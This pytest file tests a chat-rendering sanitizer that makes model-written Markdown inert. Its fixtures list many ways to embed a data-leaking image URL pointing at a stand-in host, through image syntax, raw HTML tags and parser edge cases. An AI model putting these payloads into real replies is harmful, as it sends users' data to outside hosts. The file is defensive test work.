"""Issue 58 item 4: Markdown a model or a person wrote loads nothing when the chat shows it.

Each case is rendered by a CommonMark renderer (markdown-it, GFM tables on, raw
HTML passed through as a browser would get it) and the HTML it gives is read for
what would load: an ``<img>`` or any raw tag.
"""

from __future__ import annotations

import re

import pytest
from markdown_it import MarkdownIt

from devfactory.chat.inert import InertStream, inert_markdown
from devfactory.chat.view import pause_markdown, stage_markdown
from devfactory.control.hitl import Pause
from devfactory.teams.registry import load_teams

LEAK = "http://other-host/leak.png?d=secret"
HTML = MarkdownIt("commonmark").enable(["table", "strikethrough"])


def rendered(markdown: str) -> str:
    """Return the HTML a CommonMark renderer makes of ``markdown``."""
    return HTML.render(markdown)


def loads(markdown: str) -> list[str]:
    """Return what the rendered ``markdown`` would load: its images and its raw HTML."""
    found = []
    for token in HTML.parse(markdown):
        for t in [token, *(token.children or [])]:
            if t.type in ("image", "html_inline", "html_block"):
                found.append(t.content or str(t.attrs))
    return found


@pytest.mark.parametrize(
    ("written", "shown_as_link"),
    [
        (f"![x]({LEAK})", "x"),
        (f'Our claim ![chart of sales]({LEAK} "a title") holds.', "chart of sales"),
        (f"![x][r]\n\n[r]: {LEAK}", "x"),  # reference-style
        (f"![x][]\n\n[x]: {LEAK}", "x"),  # collapsed
        (f"![x]\n\n[x]: {LEAK}", "x"),  # shortcut
        (f"[![badge]({LEAK})](https://example.com)", "badge"),  # an image inside a link
        (f"\\\\![x]({LEAK})", "x"),  # an escaped backslash, then a real image
        (f"- a list item ![x]({LEAK})\n> quoted ![y]({LEAK})", "x"),
        (f"| a | b |\n|---|---|\n| ![x]({LEAK}) | c |", "x"),  # a table cell
    ],
)
def test_an_image_shows_as_a_link_with_its_text_and_loads_nothing(
    written: str, shown_as_link: str
) -> None:
    assert "<img" in rendered(written)  # as written, it would load
    shown = inert_markdown(written)
    assert loads(shown) == []
    assert "<img" not in rendered(shown)
    assert re.search(rf"<a href=[^>]*>{re.escape(shown_as_link)}</a>", rendered(shown))


@pytest.mark.parametrize(
    "written",
    [
        f'<img src="{LEAK}">',
        f"text <img\nsrc={LEAK}> across lines",
        f"<video src={LEAK}></video>",
        f'<div>\n<img src="{LEAK}">\n</div>',  # an HTML block
        f"<p x=1>{LEAK}</p>",
        f"<![x]({LEAK})",  # a declaration's opener hiding an image
        f"<!-- a comment --> ![x]({LEAK})",
    ],
)
def test_raw_html_shows_as_it_was_written_and_loads_nothing(written: str) -> None:
    shown = inert_markdown(written)
    assert loads(shown) == []
    assert "&lt;" in rendered(shown)  # the tag is shown as text


@pytest.mark.parametrize(
    "written",
    [
        "# A heading\n\nSome **bold**, _italic_ and ~~struck~~ text, a [link](https://a.b/c).",
        "- one\n- two\n  1. nested\n\n> a quote\n\n---\n\n| a | b |\n|---|---|\n| 1 | 2 |",
        "Autolinks stay links: <https://example.com/a?b=c> and <someone@example.com>.",
        "Wow! [not an image](https://a.b) and 3 < 4 > 2, a<b, x <= y, i << 2.",
        "Code as written: `![x](u)`, `<img src=x>`, ``a ` <div> b``.",
        f'```html\n<img src="{LEAK}">\n![badge]({LEAK})\n```\n\n~~~\n<div>\n~~~',
        "Escaped already: \\![x](u) and \\<img src=u>.",
    ],
)
def test_ordinary_markdown_and_code_are_left_as_they_are(written: str) -> None:
    assert inert_markdown(written) == written


def test_autolinks_stay_clickable() -> None:
    shown = inert_markdown("See <https://example.com/docs> or <ops@example.com>.")
    page = rendered(shown)
    assert '<a href="https://example.com/docs">' in page
    assert '<a href="mailto:ops@example.com">' in page


@pytest.mark.parametrize(
    "written",
    [
        # a fence inside a list item ends with the item: the image after it is live
        f"- a\n\n   ```\n![x]({LEAK})\n```",
        # a table cell cuts what looks like a code span
        f"| a | b |\n|---|---|\n| `a | ![x]({LEAK}) ` |",
        # an HTML block holds the fence line: the image after the blank line is live
        f"<div>\n```\n</div>\n\n![x]({LEAK})",
        # a backtick inside an autolink opens no code span
        f"<http://a.b/`>![x]({LEAK})`",
    ],
)
def test_text_that_only_looks_like_code_is_escaped_too(written: str) -> None:
    assert loads(inert_markdown(written)) == []


def test_making_text_inert_twice_changes_nothing_more() -> None:
    for written in (f"![x]({LEAK}) <img src=x> `![y](z)`", f"- a\n\n   ```\n![x]({LEAK})\n```"):
        once = inert_markdown(written)
        assert inert_markdown(once) == once


def test_a_streamed_reply_never_shows_an_image_however_it_is_cut() -> None:
    reply = f"Look `code` ![x]({LEAK}) then ```\n![kept]({LEAK})\n``` and <img src={LEAK}> end"
    for size in (1, 2, 3, 7):
        view = InertStream()
        shown = ""
        for start in range(0, len(reply), size):
            view.add(reply[start : start + size])
            sent, whole = view.catch_up()
            shown = sent if whole else shown + sent
            assert loads(shown) == [], shown
        assert shown == inert_markdown(reply)
        assert view.text == reply  # the model's own words go back into its history


def test_a_pause_question_and_a_stages_claims_load_no_image() -> None:
    pause = Pause(
        kind="governance",
        title="HIGH risk",
        question=f"Requirement: an API ![x]({LEAK})",
        actions=("approve", "reject"),
        roles=("approver",),
        reasoning=f"because <img src={LEAK}>",
        risk_factors=(f"![y][r]\n\n[r]: {LEAK}",),
    )
    assert loads(pause_markdown("r1", pause, "approver")) == []
    record = {
        "team": "backend-engineering",
        "outcome": "PASSED",
        "result": {
            "confidence": 0.9,
            "verified_facts": [f"the service works ![proof]({LEAK})"],
            "assumptions_made": [f"![x][r]\n\n[r]: {LEAK}"],
            "artifacts": [],
        },
        "reason": f"done <video src={LEAK}>",
    }
    assert loads(stage_markdown(record, load_teams())) == []
